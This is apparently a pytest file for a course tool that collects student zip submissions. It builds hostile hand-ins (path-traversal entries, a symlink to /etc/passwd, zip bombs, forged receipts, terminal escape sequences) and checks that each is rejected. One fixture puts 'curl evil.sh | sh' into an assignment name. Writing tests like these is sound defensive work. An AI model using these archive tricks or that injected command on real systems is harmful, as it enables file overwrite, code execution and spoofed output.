"""Broken and hostile submissions, each named after its fault: that one is reported, the batch goes on."""

from __future__ import annotations

import json
import stat
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from course_copy import ASSIGNMENT

from debatekit.rounds.collect import collect

NOTEBOOK = f"{ASSIGNMENT}.ipynb"
ANSWERS = f"{ASSIGNMENT}.answers.json"


def _members(good: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(good) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _pack(path: Path, members: Iterator[tuple[str | zipfile.ZipInfo, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)


def _with(good: Path, path: Path, **changes: bytes) -> None:
    _pack(path, (_members(good) | {name.replace("__", "."): content for name, content in changes.items()}).items())


def climbs_out_of_its_folder(good: Path, path: Path) -> None:
    _pack(path, (_members(good) | {"../../nbgrader_config.py": b"evil"}).items())


def names_an_absolute_path(good: Path, path: Path) -> None:
    _pack(path, (_members(good) | {"/tmp/evil.py": b"evil"}).items())


def brings_a_library_of_its_own(good: Path, path: Path) -> None:
    _pack(path, (_members(good) | {"pandas.py": b"evil"}).items())


def holds_a_link(good: Path, path: Path) -> None:
    link = zipfile.ZipInfo(ANSWERS)
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    _pack(
        path,
        [*((name, content) for name, content in _members(good).items() if name != ANSWERS), (link, b"/etc/passwd")],
    )


def unpacks_to_a_gigabyte(good: Path, path: Path) -> None:
    _with(good, path, **{NOTEBOOK: b" " * 30_000_000})


def lies_about_its_size(good: Path, path: Path) -> None:
    unpacks_to_a_gigabyte(good, path)
    raw = path.read_bytes()
    path.write_bytes(raw.replace((30_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little")))


def holds_ten_thousand_files(good: Path, path: Path) -> None:
    _pack(path, ((f"{number}.txt", b"") for number in range(10_000)))


def holds_the_same_name_twice(good: Path, path: Path) -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        _pack(path, [*_members(good).items(), (NOTEBOOK, b"{}")])


def was_changed_afterwards(good: Path, path: Path) -> None:
    _with(good, path, **{ANSWERS: _members(good)[ANSWERS].replace(b"forecast", b"fact    ")})


def has_another_name_on_its_receipt(good: Path, path: Path) -> None:
    _with(good, path, **{"receipt.json": _members(good)["receipt.json"].replace(b"ab123", b"xy999")})


def lost_a_file(good: Path, path: Path) -> None:
    _pack(path, ((name, content) for name, content in _members(good).items() if name != ANSWERS))


def is_of_another_assignment(good: Path, path: Path) -> None:
    _resign(good, path, assignment="02-map")


def is_of_another_course(good: Path, path: Path) -> None:
    _resign(good, path, course="chemistry")


def has_an_id_that_climbs(good: Path, path: Path) -> None:
    _resign(good, path, student="../../up")


def was_cut_off(good: Path, path: Path) -> None:
    path.write_bytes(good.read_bytes()[:-200])


def has_a_damaged_middle(good: Path, path: Path) -> None:
    raw = bytearray(good.read_bytes())
    raw[300:340] = bytes(40)
    path.write_bytes(raw)


def is_packed_with_lzma_and_damaged(good: Path, path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
        for name, content in _members(good).items():
            archive.writestr(name, content)
    raw = bytearray(path.read_bytes())
    raw[200:1200] = b"\xa5" * 1000
    path.write_bytes(raw)


def has_a_course_that_steers_the_terminal(good: Path, path: Path) -> None:
    _resign(good, path, course="x\x1b[2K\r  zz999: collected, receipt AAAA-BBBB" + "!" * 80)


def has_an_assignment_that_is_a_command(good: Path, path: Path) -> None:
    _resign(good, path, assignment="01-claims; curl evil.sh | sh #")


def is_a_picture_called_zip(good: Path, path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n" + bytes(100))


def is_empty(good: Path, path: Path) -> None:
    path.write_bytes(b"")


def is_locked_with_a_password(good: Path, path: Path) -> None:
    raw = bytearray(good.read_bytes())
    # The flag "encrypted" in every local and central header.
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = raw.find(mark)
        while start >= 0:
            raw[start + offset] |= 1
            start = raw.find(mark, start + 4)
    path.write_bytes(raw)


def holds_several_submissions(good: Path, path: Path) -> None:
    _pack(path, [("ab1/01-claims.ipynb", b"{}"), ("ab2/01-claims.ipynb", b"{}")])


def holds_a_notebook_that_is_not_json(good: Path, path: Path) -> None:
    _resign(good, path, notebook=b"{ half")


def holds_a_notebook_of_endless_depth(good: Path, path: Path) -> None:
    _resign(good, path, notebook=b"[" * 200_000)


def holds_a_notebook_just_too_deep_to_copy(good: Path, path: Path) -> None:
    depth = 900
    raw = _members(good)[NOTEBOOK].decode()
    deep = raw.replace('"metadata": {', '"deep": ' + "[" * depth + "]" * depth + ', "metadata": {', 1)
    _resign(good, path, notebook=deep.encode())


def holds_another_notebook(good: Path, path: Path) -> None:
    _resign(good, path, notebook=b'{"cells": [], "nbformat": 4}')


def _resign(good: Path, path: Path, notebook: bytes | None = None, **changes: str) -> None:
    """As somebody does who knows how receipts are made: with a code that fits."""
    from dataclasses import replace

    from debatekit.rounds.receipt import FILE, describe, read_receipt

    members = _members(good)
    receipt = replace(read_receipt(members[FILE]), **changes)
    if notebook is not None:
        members[NOTEBOOK] = notebook
        receipt = replace(receipt, files=receipt.files | {NOTEBOOK: describe(notebook)})
    _pack(path, (members | {FILE: receipt.to_json()}).items())


FAULTS = {
    climbs_out_of_its_folder: "it holds “../../nbgrader_config.py”, which no hand-in holds",
    names_an_absolute_path: "it holds “/tmp/evil.py”, which no hand-in holds",
    brings_a_library_of_its_own: "it holds “pandas.py”, which no hand-in holds",
    holds_a_link: f"“{ANSWERS}” in it is a link",
    unpacks_to_a_gigabyte: f"“{NOTEBOOK}” in it is larger than 20 MB",
    lies_about_its_size: "the zip is damaged",
    holds_ten_thousand_files: "it holds 10000 files; a hand-in holds three at most",
    holds_the_same_name_twice: f"it holds “{NOTEBOOK}”, which no hand-in holds",
    was_changed_afterwards: f"{ANSWERS} was changed after the hand-in",
    has_another_name_on_its_receipt: "its receipt was changed after the hand-in",
    lost_a_file: f"{ANSWERS} is missing from it, though its receipt names it",
    is_of_another_assignment: "it is a hand-in of “02-map”. Collect it under that name.",
    is_of_another_course: "it belongs to the course “chemistry”",
    has_an_id_that_climbs: "A student id cannot hold “/”",
    was_cut_off: "the zip is damaged",
    has_a_damaged_middle: "the zip is damaged",
    is_packed_with_lzma_and_damaged: "the zip is damaged",
    has_a_course_that_steers_the_terminal: "“x?[2K?  zz999: collected, receipt AAAA-BBBB!!!!!!!!!!!!!!…”, not to",
    has_an_assignment_that_is_a_command: "of “01-claims; curl evil.sh | sh #”. Collect it under that name",
    is_a_picture_called_zip: "the zip is damaged",
    is_empty: "the zip is damaged",
    is_locked_with_a_password: "locked with a password",
    holds_several_submissions: "unzip it and collect the folder",
    holds_a_notebook_that_is_not_json: f"{NOTEBOOK} is damaged: it is not readable as a notebook",
    holds_a_notebook_of_endless_depth: f"{NOTEBOOK} is damaged",
    holds_a_notebook_just_too_deep_to_copy: "what is in it makes no sense",
    holds_another_notebook: f"this notebook is not “{ASSIGNMENT}”: it has none of its cells",
}


@pytest.mark.parametrize("make", FAULTS, ids=lambda make: make.__name__)
def test_a_bad_zip_is_reported_and_the_good_one_collected(
    assignment, make_zip: Callable, course: Path, tmp_path: Path, make: Callable
) -> None:
    good = make_zip()
    make(good, good.with_name("a-bad-one.zip"))
    before = set(tmp_path.rglob("*"))
    outcomes = {outcome.path.name: outcome for outcome in collect(assignment, [make_zip.incoming], course)}
    bad = outcomes["a-bad-one.zip"]
    assert bad.done == "not collected"
    (why,) = bad.warnings
    assert FAULTS[make] in why
    assert why.rstrip(".)").count(". ") <= 2, "a sentence or two"
    assert outcomes[good.name].done == "collected"
    new = {path.relative_to(course).parts[0] for path in set(tmp_path.rglob("*")) - before}
    assert new == {"grading"}, "nothing was unpacked anywhere else"


def test_whatever_goes_wrong_with_one_the_others_are_collected(
    assignment, make_zip: Callable, course: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also what nobody thought of, when it is read and when it is put in its place."""
    from debatekit.rounds import collect as module
    from debatekit.rounds.shelf import Shelf

    make_zip("ab123"), make_zip("cd456", minute=1), make_zip("ef789", minute=2)
    read, put = module.read_submission, Shelf.put

    def unread(arrival, *told):
        if "ab123" in arrival.path.name:
            raise MemoryError
        return read(arrival, *told)

    def unput(shelf, submission):
        if submission.receipt.student == "cd456":
            raise KeyError("never\x1b[2K")
        return put(shelf, submission)

    monkeypatch.setattr(module, "read_submission", unread)
    monkeypatch.setattr(Shelf, "put", unput)
    outcomes = {each.path.name.split("-")[2]: each for each in collect(assignment, [make_zip.incoming], course)}
    assert outcomes["ef789"].done == "collected"
    assert outcomes["ab123"].warnings == ("what is in it makes no sense (MemoryError). Ask for a new hand-in.",)
    assert outcomes["cd456"].warnings[0].startswith("it could not be put in its place (KeyError: ")
    assert "\x1b" not in outcomes["cd456"].line()


@pytest.mark.parametrize("forged", ["ab123\n", " ab123", "ab123\t"])
def test_an_id_with_blanks_around_it_is_the_same_student(
    assignment, make_zip: Callable, course: Path, forged: str
) -> None:
    good = make_zip()
    _resign(good, good.with_name("forged.zip"), student=forged)
    outcomes = collect(assignment, [make_zip.incoming], course)
    assert {outcome.student for outcome in outcomes} == {"ab123"}
    assert [path.name for path in (course / "grading" / "submitted").iterdir()] == ["ab123"]
    assert not [outcome for outcome in outcomes if "\n" in outcome.line() or "\t" in outcome.line()]


def test_grade_ids_cannot_steer_the_terminal(assignment, answered: Path, course: Path) -> None:
    notebook = json.loads((answered / NOTEBOOK).read_text())
    marked = {"nbgrader": {"grade_id": "\x1b[2K" + "x" * 500}}
    evil = {"cell_type": "code", "source": "", "outputs": [], "metadata": marked}
    notebook["cells"] += [evil, evil]
    (answered / NOTEBOOK).write_text(json.dumps(notebook))
    (outcome,) = collect(assignment, [answered / NOTEBOOK], course, student="ab123")
    assert "cells are there twice: ?[2Kxxx" in outcome.line()
    assert len(outcome.line()) < 300


def test_links_in_a_folder_are_not_followed(assignment, make_zip: Callable, course: Path, tmp_path: Path) -> None:
    make_zip()
    (tmp_path / "elsewhere").mkdir()
    (make_zip.incoming / "link").symlink_to(tmp_path / "elsewhere")
    (make_zip.incoming / "link.zip").symlink_to("/etc/passwd")
    outcomes = collect(assignment, [make_zip.incoming], course)
    assert [outcome.done for outcome in outcomes] == ["collected", "not collected", "not collected"]
    assert "links are not followed" in outcomes[1].warnings[0]


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (b"", "is damaged"),
        (b"\xff\xfe\x00", "is damaged"),
        (b"[]", "is not a notebook"),
        (b'{"cells": {}}', "is not a notebook"),
        (b'{"cells": [1, null, {"metadata": 3}, {"metadata": {"nbgrader": []}}]}', "has none of its cells"),
    ],
)
def test_bad_bare_notebooks(assignment, course: Path, tmp_path: Path, raw: bytes, why: str) -> None:
    path = tmp_path / f"ab123_{NOTEBOOK}"
    path.write_bytes(raw)
    (outcome,) = collect(assignment, [path], course)
    assert outcome.done == "not collected"
    assert why in outcome.warnings[0]


def test_copied_and_deleted_cells_are_collected_and_pointed_out(assignment, answered: Path, course: Path) -> None:
    notebook = json.loads((answered / NOTEBOOK).read_text())
    cells = {cell["id"]: cell for cell in notebook["cells"]}
    notebook["cells"].append(cells["what-latest-says"] | {"id": "a-copy"})
    notebook["cells"].remove(cells["test-what-latest-says"])
    (answered / NOTEBOOK).write_text(json.dumps(notebook))
    (outcome,) = collect(assignment, [answered / NOTEBOOK], course, student="ab123")
    assert outcome.done == "collected"
    assert [warning.split(".")[0] for warning in outcome.warnings] == [
        "cells are missing: test-what-latest-says",
        "cells are there twice: what-latest-says",
    ]


@pytest.mark.parametrize("saved_at", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "", None, [], 7])
@pytest.mark.parametrize("answer", [None, 3, [[]], {"british-aircraft": []}, {"british-aircraft": {}}])
def test_answers_of_any_shape_are_collected_as_they_came(
    assignment, answered: Path, course: Path, answer: object, saved_at: object
) -> None:
    document = json.loads((answered / ANSWERS).read_text())
    document |= {"answers": {"claims-kinds": answer}, "saved_at": saved_at}
    (answered / ANSWERS).write_text(json.dumps(document))
    notebook = json.loads((answered / NOTEBOOK).read_text())
    data = {"application/vnd.debatekit.answers+json": document}
    notebook["cells"][4]["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": data}]
    (answered / NOTEBOOK).write_text(json.dumps(notebook))
    (outcome,) = collect(assignment, [answered / NOTEBOOK], course, student="ab123")
    assert outcome.done == "collected"
    kept = json.loads((course / "grading/submitted/ab123" / ASSIGNMENT / ANSWERS).read_text())
    assert kept["answers"]["claims-kinds"] == answer


def test_a_damaged_answers_file_beside_a_bare_notebook_is_left_as_it_came(
    assignment, answered: Path, course: Path
) -> None:
    (answered / ANSWERS).write_text("{ half")
    (outcome,) = collect(assignment, [answered / NOTEBOOK], course, student="ab123")
    assert outcome.warnings == (f"{ANSWERS} cannot be read and the notebook holds no saved answers",)
    assert (course / "grading/submitted/ab123" / ASSIGNMENT / ANSWERS).read_text() == "{ half"
